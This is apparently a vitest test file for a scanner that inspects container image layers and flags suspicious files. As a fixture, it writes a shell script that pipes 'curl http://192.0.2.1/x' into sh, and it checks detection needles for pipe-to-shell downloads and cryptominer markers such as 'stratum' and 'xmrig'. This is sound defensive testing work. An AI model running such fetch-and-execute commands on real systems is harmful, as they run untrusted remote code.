import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { ByteStream } from '../archive/bytes.ts';
import { defaultLimits } from '../archive/limits.ts';
import { RegistryError } from '../errors.ts';
import type { Layer } from '../image/image.ts';
import { buildLayer } from '../testing/image-builder.ts';
import { type TarItem, writeTar } from '../testing/tar-writer.ts';
import type { Analyzer } from './analyzer.ts';
import { inspectLayer, type LayerInspection, type LayerOptions } from './layer.ts';

const script = '#!/bin/sh\ncurl http://192.0.2.1/x | sh\n';
const items: readonly TarItem[] = [
  { path: 'opt', type: 'directory' },
  { path: 'opt/run', content: script, mode: 0o755 },
  { path: 'opt/.wh.gone' },
  { path: 'srv/.wh..wh..opq' },
  { path: '.wh..wh.plnk/1', content: 'x' },
  { path: 'opt/empty', content: '' },
  { path: 'opt/big', content: Buffer.alloc(200_000, 'stratum+tcp and nothing else ') },
  { path: 'bin', link: 'usr/bin' },
  { path: 'opt/copy', type: 'hardlink', link: 'opt/run' },
];

function layerOf(tarItems: readonly TarItem[], change: Partial<Layer> = {}, chunk = 1000): Layer {
  const built = buildLayer(writeTar(tarItems));
  return {
    index: 2,
    mediaType: built.descriptor.mediaType,
    digest: built.descriptor.digest,
    size: built.descriptor.size,
    diffId: built.diffId,
    foreign: false,
    open: () => pieces(built.bytes, chunk),
    ...change,
  };
}

async function* pieces(bytes: Uint8Array, length: number): ByteStream {
  for (let at = 0; at < bytes.length; at += length) yield bytes.subarray(at, at + length);
}

async function inspect(layer: Layer, options: Partial<LayerOptions> = {}): Promise<LayerInspection> {
  return await inspectLayer(layer, { analyzers: [], limits: defaultLimits, ...options });
}

const gapsOf = ({ facts }: LayerInspection) => facts.gaps.map(({ reason, code }) => `${reason} ${code ?? ''}`.trim());
const textOf = (inspection: LayerInspection, path: string): string | undefined => {
  const bytes = inspection.kept.get([...inspection.facts.files].findLastIndex((file) => file.path === path));
  return bytes === undefined ? undefined : Buffer.from(bytes).toString();
};

describe('inspectLayer', () => {
  it('reads files, whiteouts and opaque marks in one pass', async () => {
    const layer = layerOf(items);
    const inspection = await inspect(layer);
    const { facts } = inspection;
    expect(facts).toMatchObject({ index: 2, digest: layer.digest, diffId: layer.diffId, size: layer.size, entries: 9 });
    expect(facts).toMatchObject({
      whiteouts: ['/opt/gone'],
      opaques: ['/srv'],
      gaps: [],
      anomalies: [],
      cached: false,
    });
    const run = facts.files.find((file) => file.path === '/opt/run');
    expect(run).toMatchObject({ kind: 'script', shebang: '/bin/sh', mode: 0o755, layer: 2, size: script.length });
    expect(run?.sha256).toBe(createHash('sha256').update(script).digest('hex'));
    expect(run?.needles).toEqual(['curl', 'pipe-to-shell']);
    expect(facts.files.find((file) => file.path === '/opt/empty')).toMatchObject({ kind: 'empty', size: 0 });
    expect(facts.files.find((file) => file.path === '/opt/big')).toMatchObject({ kind: 'text', needles: ['stratum'] });
    expect(facts.files.find((file) => file.path === '/opt/copy')).toMatchObject({ linkTarget: '/opt/run' });
    expect(textOf(inspection, '/opt/run')).toBe(script);
    expect(inspection.hinted).toEqual([[...facts.files].findIndex((file) => file.path === '/opt/big')]);
  });

  it('gives the same whatever the chunks', async () => {
    const whole = await inspect(layerOf(items, {}, 1_000_000));
    for (const chunk of [1, 7, 511, 513]) expect(await inspect(layerOf(items, {}, chunk))).toEqual(whole);
  });

  it('is plain data', async () => {
    const inspection = await inspect(layerOf(items));
    const { files, ...facts } = inspection.facts;
    expect(structuredClone({ ...inspection, facts })).toEqual({ ...inspection, facts });
    expect(JSON.parse(JSON.stringify(inspection.facts))).toEqual({ ...facts, files: [...files] });
  });

  it('shares the bytes with analyzers, and survives one that breaks', async () => {
    const seen: number[] = [];
    const counting: Analyzer = {
      id: 'counting',
      version: 1,
      title: 'Counts.',
      wants: ({ fact }) => (fact.path === '/opt/big' ? 150_000 : 0),
      analyze({ fact, bytes, truncated }) {
        seen.push(bytes.length);
        return [{ truncated, hash: fact.sha256?.length }];
      },
    };
    const breaking: Analyzer = {
      ...counting,
      id: 'breaking',
      analyze: () => {
        throw new Error('no');
      },
    };
    const { facts } = await inspect(layerOf(items), { analyzers: [breaking, counting] });
    expect(seen).toEqual([150_000]);
    expect(facts.analyzed).toEqual([
      { analyzer: 'counting', path: '/opt/big', layer: 2, data: { truncated: true, hash: 64 } },
    ]);
    expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'unreadable', code: 'BUG', layer: 2 })]);
  });

  it('keeps what was read before the stream broke off, the half-read file included', async () => {
    const tar = writeTar([
      { path: 'a.sh', content: 'first\n' },
      { path: 'b.sh', content: `second\n${'#'.repeat(5000)}` },
    ]);
    const layer = layerOf([], { mediaType: 'application/vnd.oci.image.layer.v1.tar', size: tar.length, open: broken });
    async function* broken(): ByteStream {
      yield tar.subarray(0, 2500);
      throw new RegistryError('UNREACHABLE', 'the connection was lost');
    }
    const inspection = await inspect(layer);
    expect(gapsOf(inspection)).toEqual(['unreadable UNREACHABLE']);
    expect(inspection.facts.files.map((file) => [file.path, file.sha256 === undefined])).toEqual([
      ['/a.sh', false],
      ['/b.sh', true],
    ]);
    expect(textOf(inspection, '/a.sh')).toBe('first\n');
    expect(textOf(inspection, '/b.sh')?.startsWith('second\n')).toBe(true);
    expect(inspection.facts.digest).toBeUndefined();
  });

  const broken: readonly (readonly [string, Partial<Layer>, Partial<LayerOptions>, string])[] = [
    [
      'other bytes than promised',
      { digest: `sha256:${'0'.repeat(64)}` as NonNullable<Layer['digest']> },
      {},
      'integrity DIGEST_MISMATCH',
    ],
    ['another size', { size: 10 }, {}, 'integrity SIZE_MISMATCH'],
    [
      'another tar',
      { diffId: `sha256:${'1'.repeat(64)}` as NonNullable<Layer['diffId']> },
      {},
      'integrity DIFF_ID_MISMATCH',
    ],
    [
      'no bytes at all',
      { open: () => failing(new RegistryError('BLOB_UNKNOWN', 'no')) },
      {},
      'unreadable BLOB_UNKNOWN',
    ],
    [
      'a foreign layer',
      { foreign: true, open: () => failing(new RegistryError('BLOB_UNKNOWN', 'no')) },
      {},
      'foreign BLOB_UNKNOWN',
    ],
    ['a broken disk', { open: () => failing(Object.assign(new Error('io'), { code: 'EIO' })) }, {}, 'unreadable EIO'],
    ['a bug', { open: () => failing(new TypeError('undefined is not a function')) }, {}, 'unreadable BUG'],
    ['too many bytes', {}, { limits: { ...defaultLimits, layerBytes: 5000 } }, 'limit TOO_MANY_BYTES'],
    ['too many entries', {}, { limits: { ...defaultLimits, layerEntries: 3 } }, 'limit TOO_MANY_ENTRIES'],
    ['a stop', {}, { signal: AbortSignal.abort() }, 'stopped'],
    ['no time left', {}, { signal: AbortSignal.abort(new DOMException('late', 'TimeoutError')) }, 'timeout TIMEOUT'],
  ];
  for (const [name, change, options, gap] of broken) {
    it(`makes a gap of ${name}`, async () => {
      expect(gapsOf(await inspect(layerOf(items, change), options))).toContain(gap);
    });
  }

  it('does not wait for a source that has fallen silent', async () => {
    const tar = writeTar(items);
    const silent = layerOf(items, {
      mediaType: 'application/vnd.oci.image.layer.v1.tar',
      size: tar.length,
      open: hanging,
    });
    async function* hanging(): ByteStream {
      yield tar.subarray(0, 2000);
      await new Promise(() => {});
    }
    const inspection = await inspect(silent, { signal: AbortSignal.timeout(50) });
    expect(gapsOf(inspection)).toEqual(['timeout TIMEOUT']);
    expect(inspection.facts.files.at(0)?.path).toBe('/opt');
  });

  it('ends the source when it stops early', async () => {
    let ended = false;
    const built = layerOf(items);
    async function* watched(): ByteStream {
      try {
        yield* built.open();
      } finally {
        ended = true;
      }
    }
    const limits = { ...defaultLimits, layerEntries: 1 };
    expect(gapsOf(await inspect({ ...built, open: watched }, { limits, signal: AbortSignal.timeout(60_000) }))).toEqual(
      ['limit TOO_MANY_ENTRIES'],
    );
    expect(ended).toBe(true);
  });

  it('makes a gap of what is no archive, and of what stands in none', async () => {
    const noise = Buffer.from('this is not a layer at all'.repeat(100));
    const junk = buildLayer(noise);
    const open = {
      digest: junk.descriptor.digest,
      size: junk.bytes.length,
      diffId: junk.diffId,
      open: () => pieces(junk.bytes, 99),
    };
    expect((await inspect(layerOf([], open))).facts.gaps.length).toBeGreaterThan(0);
    const half = buildLayer(writeTar(items).subarray(0, 4000));
    const cut = {
      digest: half.descriptor.digest,
      size: half.bytes.length,
      diffId: half.diffId,
      open: () => pieces(half.bytes, 99),
    };
    expect((await inspect(layerOf([], cut))).facts.gaps.length).toBeGreaterThan(0);
  });

  it.each(['.wh.', '.wh..', '.wh...', 'a/.wh..'])('takes the whiteout %s for what it is: an oddity', async (path) => {
    const { facts } = await inspect(layerOf([{ path }]));
    expect(facts.whiteouts).toEqual([]);
    expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'anomaly' })]);
  });

  it('reads an opaque mark of overlayfs', async () => {
    const { facts } = await inspect(
      layerOf([{ path: 'd', type: 'directory', xattrs: { 'trusted.overlay.opaque': 'y' } }]),
    );
    expect(facts.opaques).toEqual(['/d']);
    expect(facts.files.map((file) => file.path)).toEqual(['/d']);
  });

  it('says when only a part of a script was read, and keeps other large texts out of the gaps', async () => {
    const limits = { ...defaultLimits, textBytes: 100 };
    const inspection = await inspect(
      layerOf([
        { path: 'run.sh', content: `echo ${'x'.repeat(500)}` },
        { path: 'notes', content: `xmrig ${'x'.repeat(500)}` },
      ]),
      { limits },
    );
    expect(inspection.facts.gaps).toEqual([expect.objectContaining({ reason: 'limit', path: '/run.sh', layer: 2 })]);
    expect(textOf(inspection, '/run.sh')).toHaveLength(100);
  });

  it('keeps a long text that is not surely code only when asked for, and then says that its end is missing', async () => {
    const limits = { ...defaultLimits, textBytes: 100 };
    const layer = layerOf([{ path: 'x.py', content: `xmrig ${'x'.repeat(500)}` }]);
    const first = await inspect(layer, { limits });
    expect([first.kept.size, first.facts.gaps]).toEqual([0, []]);
    const second = await inspect(layer, { limits, want: new Set(['/x.py']), onlyWanted: true });
    expect(textOf(second, '/x.py')).toHaveLength(100);
    expect(second.facts.gaps).toEqual([expect.objectContaining({ reason: 'limit', path: '/x.py' })]);
  });

  it('says when scripts were not kept for want of room', async () => {
    const scripts = Array.from({ length: 20 }, (_, index) => ({ path: `s${index}.sh`, content: 'x'.repeat(100) }));
    const notes = Array.from({ length: 5 }, (_, index) => ({ path: `n${index}`, content: `xmrig${'x'.repeat(100)}` }));
    const inspection = await inspect(layerOf([...notes, ...scripts]), {
      limits: { ...defaultLimits, retainedBytes: 1000 },
    });
    expect(inspection.kept.size).toBe(10);
    expect(inspection.facts.gaps).toEqual([expect.objectContaining({ reason: 'limit', path: '/s10.sh' })]);
    expect(inspection.facts.gaps[0]?.detail).toContain('10 files');
  });

  it('reads only the wanted bytes on a second pass', async () => {
    const inspection = await inspect(layerOf(items), { want: new Set(['/opt/big', '/nothing']), onlyWanted: true });
    expect([...inspection.kept.keys()].map((at) => inspection.facts.files.at(at)?.path)).toEqual(['/opt/big']);
    expect([...inspection.facts.files].some((file) => file.sha256 !== undefined)).toBe(false);
  });
});

async function* failing(error: Error): ByteStream {
  yield* [];
  throw error;
}
